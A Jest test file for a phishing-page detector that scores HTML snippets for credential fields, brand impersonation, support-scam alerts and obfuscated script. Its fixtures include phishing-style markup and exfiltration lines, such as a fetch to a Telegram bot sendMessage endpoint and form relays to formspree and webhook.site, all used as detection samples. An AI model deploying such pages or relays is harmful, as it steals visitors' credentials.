import { type PageRuleId, pageRules } from '@haru/contracts';
import { describe, expect, it } from '@jest/globals';
import { checkPage } from '../test/check-page.js';
import { mayHaveField } from './plain-page.js';

/** Each rule has a page, with the line on which it matches. */
const PAGES: Record<Exclude<PageRuleId, 'known.content' | 'check.unfinished'>, string> = {
  'credential.password': '\n<input type="password">',
  'credential.card': '\n<input autocomplete="cc-number">',
  'credential.security-code': '\n<label>セキュリティコード<input type="tel"></label>',
  'credential.one-time-code': '\n<input autocomplete="one-time-code">',
  'credential.pin': '<table><tr><td>暗証番号</td><td>\n<input name="a"></td></tr></table>',
  'credential.seed-phrase': '\n<textarea placeholder="12-word seed phrase"></textarea>',
  'credential.identity': '\n<label>Social Security number<input name="s"></label>',
  'brand.title': '\n<title>【重要】三井住友カードからのお知らせ</title>',
  'brand.mention': '\n<title>三井住友カードの新しい看板を見た</title>',
  'brand.heading': '\n<div class="site-logo"><span>Ama</span>zon</div>',
  'brand.text': '<h1>Sign in</h1>\n<p>Use your Google Account</p>',
  'brand.field': '\n<input placeholder="Apple ID">',
  'brand.icon': '\n<link rel="shortcut icon" href="https://www.smbc-card.com/favicon.ico">',
  'brand.logo': '\n<img class="logo" src="https://www.netflix.com/x.png">',
  'brand.image': '\n<img alt="PayPal" src="data:image/png;base64,AA==">',
  'brand.copyright': '\n<footer>Copyright (C) 2026 Mizuho Bank, Ltd.</footer>',
  'brand.source': '\n<link rel="canonical" href="https://login.rakuten-card.co.jp/x">',
  'page.login': '\n<title>Webmail Login</title><form method="post"><input type="password"></form>',
  'page.support-alert':
    '\n<h1>ウイルスに感染しています</h1><p>電源を切らないでください 050-1234-5678</p><audio autoplay src="a.mp3">',
  'target.chat-hook': "\n<script>fetch('https://api.telegram.org/bot1:A/sendMessage')</script>",
  'target.form-relay': '\n<form action="https://formspree.io/f/a">',
  'clone.saved-page': '\n<!-- saved from url=(0020)https://example.com/ -->',
  'evasion.amount': `\n${'<input>'.repeat(5_001)}`,
};
const LINES: Partial<Record<PageRuleId, number>> = { 'page.support-alert': 1, 'evasion.amount': 1 };

const MIB = 1024 * 1024;
const fill = (part: string): string => part.repeat(Math.floor(MIB / part.length));
const inScript = (code: string): string => `<script>${code}</script>`;

function hidden(html: string, depth: number): string {
  return depth === 0 ? html : hidden(inScript(`write(atob("${Buffer.from(html).toString('base64')}"))`), depth - 1);
}

describe('checkPage', () => {
  it.each(Object.entries(PAGES))('finds %s, and says where', (rule, html) => {
    const found = checkPage(html).signals.find((signal) => signal.rule === rule);
    const line = LINES[rule as PageRuleId] ?? 2;
    expect(found).toMatchObject({ line, weight: pageRules[rule as PageRuleId].weight });
  });

  it.each(Object.entries(PAGES))('does not refuse a page for %s alone', (rule, html) => {
    expect(checkPage(html).outcome).toBe(rule.startsWith('page.') ? 'notice' : 'passed');
  });

  it.each(['０５０−１２３４−５６７８', '050ー1234ー5678', '+1 888‐555‐0123'])(
    'takes %s for a telephone number',
    (number) => {
      const alarm = '<h1>ウイルスに感染しています</h1><p>電源を切らないでください';
      expect(checkPage(`${alarm} ${number}</p><video autoplay src="a.mp4">`).outcome).toBe('notice');
      expect(checkPage(`${alarm} ${number}</p><video autoplay muted src="a.mp4">`).outcome).toBe('passed');
    },
  );

  it('finds the form and the name behind more than can be read within the time', () => {
    const padding = '<a href="#">いろは</a>'.repeat(40_000);
    const html = `${padding}<h1>楽天カード ログイン</h1><form>\n<label for="p">パスワード</label><input id="p"></form>`;
    expect(checkPage(html, 40)).toMatchObject({
      outcome: 'refused',
      isComplete: false,
      signals: expect.arrayContaining([expect.objectContaining({ rule: 'credential.password', line: 2, column: 29 })]),
    });
  });

  it('gives the line of the string in a script, and an excerpt of what it writes', () => {
    const html = `<p>\n<script>\n  var a = 1;\n  write("\\x3cinput type=password\\x3e")</script>`;
    expect(checkPage(html).signals).toMatchObject([
      { rule: 'credential.password', line: 4, column: 10, excerpt: '<input type=password>' },
    ]);
  });

  it.each([
    ['half of a pair', `<input type="password" placeholder="${'a'.repeat(83)}😀">`, /a\ufffd$/],
    ['a NUL', String.raw`<script>write("<input type='password' name='\x00'>")</script>`, /name=' '>$/],
  ])('shows no %s that Postgres would refuse', (_, html, shown) => {
    expect(checkPage(html).signals[0]?.excerpt).toMatch(shown);
  });

  it.each([
    ['a search form on a page about a brand', '<title>Netflix</title><h1>Netflix</h1><input type="search" name="q">'],
    ['a key of an API', '<title>ChatGPT</title><input type="password" placeholder="API key (sk-...)">'],
    ['news behind a form to sign in', '<title>Amazon、増収増益 | 朝のニュース</title><input type="password">'],
    ['a warning', '<title>楽天カードをかたるフィッシング</title><h1>楽天カード</h1><input type="search">'],
    ['another word that has a name in it', '<title>Pineapple online</title><h1>Airline</h1><input type="password">'],
    [
      'ways to sign in',
      '<title>ログイン</title><input type="password"><button><img alt="Google logo">Googleでログイン</button>',
    ],
    ['means of payment', '<input name="cardnumber"><img alt="VISA"><img alt="JCB"><img alt="American Express">'],
    ['a review with a comment form', '<title>Netflixの感想まとめ</title><h1>Netflix</h1><input type="password">'],
    ['a guide for developers', '<title>Googleログインの実装方法</title><h1>Google</h1><input type="password">'],
    [
      "a page of a platform's user",
      '<title>道具</title><meta property="og:url" content="https://github.com/me/tool"><input type="password">',
    ],
    ['a page in the style of another', '<title>Amazon風のフォームを作る</title><h1>Amazon</h1><input type="password">'],
    ["a clone's logo", '<title>Netflix Clone</title><img class="logo" alt="Netflix"><input type="password">'],
    ['how something is done', '<title>e-Taxのやり方</title><h1>e-Tax</h1><label>暗証番号<input></label>'],
    ['a tool for a service', '<title>Amazon在庫管理</title><h1>Amazon</h1><input type="password">'],
    ['a page about something else of a name', '<title>Netflixの思い出</title><h1>Netflix</h1><input type="password">'],
    ['a name that is a word', '<title>Line</title><h1>Line</h1><input type="password">'],
    ['a disabled field', '<label>三井住友銀行 ログイン パスワード<input disabled type="password"></label>'],
    [
      'a picture on a page with a name of its own',
      '<title>道具箱</title><img alt="Amazon"><h1>道具箱</h1><input type="password">',
    ],
    [
      'a way to sign in that a script offers',
      `<title>ログイン</title><script>providers=['Google'];x.innerHTML='<input type="password">'</script>`,
    ],
    ['a means of payment', '<title>お支払い</title><h1>お支払い</h1><img alt="PayPal"><input name="cardnumber">'],
    [
      'names elsewhere by which people are found',
      '<title>参加申請</title><label>Discordのユーザー名<input name="dc"></label><label>合言葉<input type="password"></label>',
    ],
    [
      'a picture of a card',
      '<title>カード入力フォームの試作</title><div><b>VISA</b></div><input name="cardnumber"><input name="cvc">',
    ],
    [
      'a sentence before a field',
      '<title>強度の測定</title><p>銀行やApple IDのパスワードは入力しないでください。</p><input type="password">',
    ],
    [
      'a script that is shown',
      '<title>PayPal</title><pre>document.write(unescape("%3Cinput%20type=password%3E"))</pre>',
    ],
    ['code that is shown', '<title>PayPal</title><pre>&lt;input type="password"&gt;</pre>'],
    [
      'a link in a heading',
      '<header><a href="https://www.google.com/">Go to Google</a></header><input type="password">',
    ],
    [
      'a link in a header',
      '<div class="top-header"><span><a href="https://www.facebook.com/x">Facebook</a></span></div><input type="password">',
    ],
    [
      "a brand at the end of a file's name",
      '<h1>News</h1><img id="site-logo" src="/up/our-paper-paypal.png"><img class="logo" src="/up/other-netflix.png"><input type="password">',
    ],
    [
      "an asset's file name with a brand in it",
      '<h1>Our shop</h1><img src="/img/logos/google-play.svg" oncontextmenu="return false"><input type="password">',
    ],
    [
      'a radio button for a means of payment',
      '<h1>Your order of today</h1><input name="cardnumber"><div class="pay-logo"><input type="radio">PayPal</div>',
    ],
    [
      'one button of several to sign in',
      '<title>Universität</title><button class="idp-logo">Poste ID</button><button>X ID</button><input type="password">',
    ],
    ["a drawing's title", '<title>日記</title><p>x</p><title>WhatsApp</title><input type="password">'],
    ['a form of its own to sign in', '<title>ログイン | 写真館</title><form><input type="password"></form>'],
    [
      'a log-in beside an article',
      `<title>Prison news</title><h2>Log in</h2><form method="post"><input type="password"></form>${'<p>A long text about something.</p>'.repeat(60)}`,
    ],
    [
      'an article about false alerts',
      '<h1>サポート詐欺の偽警告</h1><p>「ウイルスに感染しています」「電源を切らないでください」と表示。相談は 188 または 03-1234-5678。</p>',
    ],
    ['markup in a comment', '<title>PayPal</title><!-- <input type="password"> -->'],
  ])('passes %s', (_, html) => {
    expect(checkPage(html).outcome).toBe('passed');
  });

  it.each([
    ['an owner alone', '<title>Sign in to your account</title><input type="password"><p>©2019 Microsoft</p>'],
    ['an owner in a link', '<title>Authorization</title><input type="password"><p>© 2021, <a href="#">Yandex</a></p>'],
    ['an account in the text', '<h1>Sign in</h1><p>Use your Google Account</p><input type="email"><input name="psw">'],
    ['an account that has a problem', '<h1>Verify</h1><p>Your Apple ID is locked.</p><input name="passcode">'],
    ['a large i for a small l', '<title>AppIe ID - Sign in</title><input type="password">'],
    ['a secret answer', '<title>Chase - Verify your identity</title><label>Security answer<input></label>'],
    ['a text of many words', '<h1>MetaMask</h1><p>Enter your recovery phrase</p><textarea></textarea>'],
    [
      'a heading behind many others',
      `<title>a</title>${'<h2>x</h2>'.repeat(300)}${'<h1>x</h1>'.repeat(300)}<h1>PayPal</h1><input type="password">`,
    ],
    ['a name without a heading', '<div><b>PayPal</b></div><input type="password">'],
    ["a copy of a platform's sign-in", '<link rel="canonical" href="https://github.com/login"><input type="password">'],
    [
      'a label elsewhere on a page that is not read to its end',
      `<title>PayPal</title><label for="a">パスワード</label><hr><p>x</p><input id="a">${'<a>'.repeat(340_000)}`,
    ],
    ['a name in a header', '<p>x<div class="page-header"><p>PayPal</p></div><input type="password">'],
    ['a form in SVG', '<title>PayPal</title><svg><style><form><input type="password">'],
    [
      'a regular expression with a quotation mark',
      `<title>PayPal</title><script>x=/"/;write('<input type="password">')</script>`,
    ],
    [
      'a literal that opens a comment',
      `<title>PayPal</title><script>a='<!--';write('<input type="password">')</script>`,
    ],
    [
      'JSX',
      '<title>PayPal</title><script type="text/babel">const A=()=><form><input type="password"/></form></script>',
    ],
    [
      'a picture as the only name',
      '<title>ログイン</title><img alt="三菱UFJ銀行"><h1>ログイン</h1><input type="password">',
    ],
    ['a title that asks in English', '<title>PayPal: Sign in to continue</title><input type="password">'],
    ['small letters for large ones', '<title>ゅうちょ銀行</title><input type="password">'],
    ['two letters for one', '<title>メノレカリ</title><input type="password">'],
    [
      'a script as an address',
      `<script src="data:text/javascript;base64,${Buffer.from(`write('<h1>楽天カード</h1><input type="password">')`).toString('base64')}"></script>`,
    ],
    ['a title that warns', '<title>楽天カード 口座凍結のお知らせ</title><input type="password">'],
    ['a name beside a title that asks', '<title>JR九州ご予約内容の確認</title><h1>JR九州</h1><input name="cvc">'],
    ['a request to review', '<title>DocuSign - Review document</title><input type="password">'],
    ['a name in parts without a heading', '<p><b>P<i></i>ay<i></i>Pal</b></p><input type="password">'],
    ['a heading with a label', '<h1 aria-label="logo"><span>楽</span>天銀行</h1><input type="password">'],
    ['a title in German', '<title>DHL Sendungsverfolgung</title><label>Kartennummer<input></label>'],
    ['an alert', '<title>Chase Fraud Alert</title><label>ATM PIN<input></label>'],
    [
      'a code of an app',
      '<title>Coinbase - 2-Step Verification</title><input name="token" autocomplete="one-time-code">',
    ],
    ['a label in parts', '<title>楽天カード</title><p>パス<b>ワ</b>ード</p><input>'],
    ['a field for each digit', `<title>LINE 認証</title>${'<input maxlength="1">'.repeat(6)}`],
    ['a code without its name', '<title>Coinbase</title><p>We sent a 7-digit code to you</p><input>'],
    [
      'a field for each word',
      `<title>Ledger</title><p>recovery phrase</p>${Array.from({ length: 24 }, (_, index) => `<input placeholder="Word ${index}">`).join('')}`,
    ],
    ['a field for the words of a phrase', '<title>Ledger Live</title><textarea placeholder="word1 word2 ... word24">'],
    ['the English name of a bank', '<title>ログイン</title><input type="password"><p>© The Chiba Bank, Ltd.</p>'],
    [
      'a type in a variable',
      `<title>PayPal</title><script>f=[['a','password']];x.innerHTML='<input type="'+f[0][1]+'">'</script>`,
    ],
    [
      'a disabled field that a script enables',
      '<title>PayPal</title><input type="password" disabled><script>x.disabled=0</script>',
    ],
    ['a template element', '<title>PayPal</title><template><input type="password"></template>'],
    [
      'a page that sends to a chat',
      `<img alt="PayPal" class="logo"><input type="password"><script>fetch("https://api.telegram.org/bot1")</script>`,
    ],
  ])('refuses %s', (_, html) => {
    expect(checkPage(html).outcome).toBe('refused');
  });

  it.each([
    [
      'a log-in without a brand',
      '<title>Webmail Login</title><form><input type="email"><input type="password"></form>',
    ],
    [
      'a document behind a log-in',
      '<h1>Document - sign in to view</h1><form action="go.php"><input name="mail"><input type="password"></form>',
    ],
    [
      'a log-in of a brand that is not known',
      '<title>Log in | Kinoko Bank</title><form action="https://x.example/"><input type="password"></form>',
    ],
    ['a sent password alone', '<form method="post"><input name="user"><input type="password"></form>'],
    [
      'a short page that asks in its text',
      '<title>VoteRank</title><p>Sign in to complete the poll</p><form action="p.php"><input type="password"></form>',
    ],
    [
      'a card on a page that only asks for it',
      '<h1>Verify your billing</h1><form action="c.php"><input name="cvv"></form>',
    ],
    [
      'a support alert in English',
      '<h1>Virus detected</h1><p>Do not close this window. Call +1-888-555-0100</p><script>x.requestFullscreen()</script>',
    ],
    ['more fields than are read', `<input type="password">${'<input>'.repeat(5_001)}`],
    ['more scripts than are read', `<input type="password">${'<script>a</script>'.repeat(5_001)}`],
    [
      'a field whose input goes to a chat',
      '<input type="password"><script>fetch("https://api.telegram.org/bot1:A/sendMessage")</script>',
    ],
    [
      'a name in the title, and a relay of forms',
      '<title>三井住友カードの新しい看板を見た</title><form action="https://webhook.site/x"><input type="password"></form><hr>',
    ],
  ])('gives the notice to %s', (_, html) => {
    expect(checkPage(html).outcome).toBe('notice');
  });

  it.each([
    ['fields', '<input>'.repeat(5_001)],
    ['scripts', '<script>a</script>'.repeat(5_001)],
    ['pages in a page', hidden('<input type="password">', 4)],
  ])('says that %s were left out', (_, html) => {
    expect(checkPage(html, 2_000)).toMatchObject({ isComplete: false, dropped: true });
  });

  it.each([
    ['<input>', true],
    ['<div contenteditable>', true],
    ['<select><option>x</select><input type="checkbox">', false],
  ])('says of %s whether a visitor can type', (html, hasField) => {
    expect(checkPage(html)).toMatchObject({ hasField, isComplete: true, dropped: false });
  });

  it.each([
    ['a name with a prefix', '<h:title>楽天カード ログイン</h:title><h:form><h:input type="password"/></h:form>'],
    ['text in CDATA', '<h1><![CDATA[楽天カード ログイン]]></h1><input type="password"/>'],
    ['elements in a style', '<title>楽天カード ログイン</title><style><h:input type="password"/></style>'],
    [
      'a script in CDATA',
      `<h1>楽天カード</h1><script>//<![CDATA[\ndocument.write("<input type='password'>")//]]></script>`,
    ],
    [
      'a script with a prefix',
      '<h1>楽天カード</h1><h:script><![CDATA[document.write("<input type=password>")]]></h:script>',
    ],
  ])('reads XML: %s', (_, body) => {
    const page = `<h:html xmlns="http://www.w3.org/1999/xhtml" xmlns:h="http://www.w3.org/1999/xhtml">${body}</h:html>`;
    expect(mayHaveField(page)).toBe(true);
    expect(checkPage(page).outcome).toBe('refused');
  });

  it.each([
    ['an entity', `<?xml version="1.0"?>\n<!DOCTYPE html [<!ENTITY f "&#60;input/&#62;">]><p>&f;</p>`],
    [
      'names in two entities',
      `<!DOCTYPE a PUBLIC ">" "b" [<!ENTITY j "java"><!ENTITY s "script:">]><a href="&j;&s;b"/>`,
    ],
    ['a default attribute', `<!-- a --><!DOCTYPE html [<!ATTLIST p contenteditable CDATA "true">]><p/>`],
    [
      'a default handler behind a comment with plain declarations',
      '<!-- []> --><!DOCTYPE p [<!ATTLIST p onclick CDATA "a()">]><p/>',
    ],
    ...['data:text/xsl,x', '//example.com/a.xsl', '../a.xsl', '/share/other/a.xsl', '#a', 'a.txt', 'a&#46;xsl'].map(
      (href) => [`a transformation by ${href}`, `<?xml-stylesheet type="text/xsl" href="${href}"?><data/>`],
    ),
    [
      'a transformation by a second style sheet',
      '<?xml-stylesheet type="text/xsl" href="a.xsl"?><?xml-stylesheet type="text/xsl" href="#a"?><data/>',
    ],
    [
      'a transformation that looks like a style sheet',
      `<?xml-stylesheet title='type="text/css"' type="text/xsl"?><data/>`,
    ],
  ])('says that it was not read to its end for %s', (_, page) => {
    expect(mayHaveField(page)).toBe(true);
    expect(checkPage(page)).toMatchObject({ outcome: 'passed', isComplete: false, dropped: true });
  });

  it.each([
    '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "a" "b" [\n<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n]><svg xmlns="&ns_svg;"/>',
    '<?xml-stylesheet href="a.css" type="text/css"?><p/>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><p/>',
  ])('reads to its end an ordinary document of XML', (page) => {
    expect(mayHaveField(page)).toBe(false);
  });

  it.each(['a.xsl', '/pretty-feed-v3.xsl', 'a/b/c.XSLT'])(
    'leaves a transformation by %s to the check of that file',
    (href) => {
      const page = `<?xml version="1.0"?><?xml-stylesheet href='${href}' type="text/xsl" media="screen"?><rss/>`;
      expect(mayHaveField(page)).toBe(true);
      expect(checkPage(page)).toMatchObject({ outcome: 'passed', isComplete: true, dropped: false });
    },
  );

  it('is no slower for pages that are made to be slow', () => {
    for (const [name, html] of slowPages()) {
      const before = process.threadCpuUsage();
      const { outcome } = checkPage(html);
      const { user, system } = process.threadCpuUsage(before);
      expect([name, outcome]).toEqual([name, 'passed']);
      // It takes about 150 ms on an idle machine; quadratic time would be minutes.
      expect([name, user + system < 2_000_000]).toEqual([name, true]);
    }
  });
});

function slowPages(): [string, string][] {
  return [
    ['attributes', `<div ${Array.from({ length: 150_000 }, (_, index) => `a${index}`).join(' ')}>`],
    ['handlers', `<div ${Array.from({ length: 60_000 }, (_, index) => `on${index}="a('b')"`).join(' ')}>`],
    ['nested pages', fill(hidden('<i>x</i>', 12))],
    ['a long literal of markup', inScript(`a="${fill('<b class=a>')}"`)],
    ['escapes', inScript(`a="${fill('\\x3c\\u0062')}"`)],
    ['backslashes', inScript(`\\x${fill('\\')}`)],
    ['unclosed literals', inScript(fill(`'\\`))],
    ['escaped quotation marks', inScript(`'${fill(`\\'`)}`)],
    ['regular expressions', inScript(fill('=/['))],
    ['template literals', inScript(fill('`${'))],
    ['joined literals', inScript(fill('"a"+'))],
    ['character codes', inScript(fill('60,'))],
    ['almost base64', inScript(`"${fill('AAAA')}!"`)],
    ['base64 of nothing', fill('QUFBQUFB')],
    ['spaces', `<title>${fill(' ')}</title><script>"${fill('A ')}!"</script>`],
    ['tags that do not end', fill('<a')],
    ['one text', fill('いろはにほへと ちりぬるを ')],
    ['headings', fill('<h1>Amazon')],
    ['hosts', Array.from({ length: 30_000 }, (_, index) => `<a href=https://h${index}.example.com/>`).join('')],
    ['copyright signs', `<p>${fill('©ア')}`],
    ['nested headings', fill('<div class="logo">')],
    ['headings that open nothing', fill('<hr class="header">x')],
    ['lists of texts', inScript(fill('a=["b",'))],
    ['scripts with labels', fill(`<script>a=["input",${'"パスワ",'.repeat(50)}]</script>`)],
    ['titles', fill('<meta property=og:title content="Amazon の 楽天">')],
  ];
}
